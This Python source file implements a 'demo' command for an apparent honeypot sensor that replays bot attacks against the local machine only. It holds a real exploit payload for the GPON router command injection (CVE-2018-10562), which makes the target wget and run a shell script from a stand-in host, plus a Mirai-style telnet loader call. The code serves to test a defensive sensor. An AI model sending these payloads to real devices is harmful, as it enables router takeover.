"""`eudaemon demo`: attack your own sensor, harmlessly."""

from __future__ import annotations

import argparse
import asyncio
import hashlib
import ipaddress
import os
import socket
import time
from functools import partial

from eudaemon.app import UNPRIVILEGED_PORT_OFFSET
from eudaemon.cli import DONE, FAILED, FOUND, WRONG_USE
from eudaemon.cli._demo_victim import hijack, victim
from eudaemon.demo.loader import attack
from eudaemon.demo.sample import harmless_for
from eudaemon.demo.victim import PORT

HELP = """\
Play bots against your own sensor: a telnet loader that does what Mirai's does and brings a harmless
program, a web request with a command injected, and bytes that nobody expects.

  eudaemon demo                    all three
  eudaemon demo telnet             one of them
  eudaemon demo telnet --again     with a program that the farm has not seen yet

Or watch the engine instead of the sensor (Linux on x86-64, on the loopback alone):

  eudaemon demo victim             a small server with a mistake, to be possessed
  eudaemon demo attack             take it over, with code that downloads a harmless file

It attacks only this machine. The exit code is 1 if an attack did not succeed."""

REQUEST = (
    b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: router\r\nUser-Agent: demo\r\nContent-Length: %d\r\n"
    b"Connection: close\r\n\r\n%s"
)
INJECTION = (
    b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://192.0.2.7/bins/demo.sh"
    b"+-O+/tmp/demo.sh;sh+/tmp/demo.sh`&ipv=0"
)
UNEXPECTED_PORT = 8545  # the catch-all's
TRY_S = 10.0


def add_arguments(parser: argparse.ArgumentParser) -> None:
    """Declare the arguments."""
    parser.add_argument("what", nargs="?", choices=("all", *SENSOR, *VICTIM), default="all")
    parser.add_argument("--host", default="127.0.0.1", help="an address of this machine (default: %(default)s)")
    parser.add_argument(
        "--port",
        type=int,
        help=f"the sensor's port (default: 23, 80 or {UNEXPECTED_PORT}, or those plus 10000), or the victim's ({PORT})",
    )
    parser.add_argument("--password", default="root", help="for telnet's user root (default: %(default)s)")
    parser.add_argument("--again", action="store_true", help="bring a program that was not brought before")
    parser.add_argument(
        "--url", default="", help="what the code of `demo attack` downloads (default: a file of the demo's)"
    )


def run(arguments: argparse.Namespace) -> int:
    """Attack."""
    if not _is_own(arguments.host):
        print(f"eudaemon: {arguments.host} is not an address of this machine; the demo attacks no other")
        return WRONG_USE
    if arguments.what in VICTIM:
        return VICTIM[arguments.what](arguments)
    chosen = SENSOR if arguments.what == "all" else {arguments.what: SENSOR[arguments.what]}
    try:
        succeeded = [play(arguments) for play in chosen.values()]
    except ConnectionRefusedError as error:
        print(f"eudaemon: {error}; is a sensor running? `eudaemon up` starts one, --port names its port")
        return FAILED
    print("Look at the farm's page: it is there within a second or two.")
    return DONE if all(succeeded) else FOUND


def _telnet(arguments: argparse.Namespace) -> bool:
    port = _port(arguments, 23)
    note = f"Brought {time.strftime('%Y-%m-%d %H:%M:%S')}.\n" if arguments.again else ""
    print(f"telnet {arguments.host}:{port}: log in as root, look around, upload a program by echo, run it …")

    program = partial(harmless_for, note=note)
    outcome = asyncio.run(
        attack(arguments.host, port, payload=program, method="echo", password=arguments.password, timeout_s=60)
    )
    if not outcome.succeeded:
        print(f"  gave up at: {outcome.stage}")
        if outcome.stage == "password":
            print("  Who has been let in with a password keeps it: name that by --password, or start the sensor anew.")
        return False
    print(f"  it ran. {outcome.architecture}, {len(outcome.payload)} bytes,")
    print(f"  SHA-256 {hashlib.sha256(outcome.payload).hexdigest()}")
    return True


def _http(arguments: argparse.Namespace) -> bool:
    port = _port(arguments, 80)
    print(f"http {arguments.host}:{port}: a command injected into a router's diagnosis form (CVE-2018-10562) …")
    with socket.create_connection((arguments.host, port), TRY_S) as peer:
        peer.sendall(REQUEST % (len(INJECTION), INJECTION))
        answer = peer.recv(4096)
    print(f"  {answer.splitlines()[0].decode('latin-1') if answer else 'no answer'}")
    return bool(answer)


def _bytes(arguments: argparse.Namespace) -> bool:
    port = _port(arguments, UNEXPECTED_PORT)
    print(f"tcp {arguments.host}:{port}: bytes that nobody expects …")
    with socket.create_connection((arguments.host, port), TRY_S) as peer:
        peer.sendall(b"\x16\x99demo " + hashlib.sha256(str(time.time()).encode()).digest())
    print("  sent")
    return True


def _port(arguments: argparse.Namespace, real: int) -> int:
    """Return the port to attack: the named one, or the first of the usual two that answers."""
    if arguments.port:
        return int(arguments.port)
    offsets = (0, UNPRIVILEGED_PORT_OFFSET) if os.geteuid() == 0 else (UNPRIVILEGED_PORT_OFFSET, 0)
    for offset in offsets:
        try:
            socket.create_connection((arguments.host, real + offset), TRY_S).close()
        except OSError:
            continue
        return real + offset
    raise ConnectionRefusedError(
        f"nothing answers on {arguments.host} port {real} or {real + UNPRIVILEGED_PORT_OFFSET}"
    )


def _is_own(host: str) -> bool:
    try:
        address = ipaddress.ip_address(host)
        with socket.socket(socket.AF_INET6 if address.version == 6 else socket.AF_INET, socket.SOCK_DGRAM) as probe:
            probe.bind((host, 0))  # only an own address can be bound
    except (ValueError, OSError):
        return False
    return True


SENSOR = {"telnet": _telnet, "http": _http, "bytes": _bytes}
VICTIM = {"victim": victim, "attack": hijack}
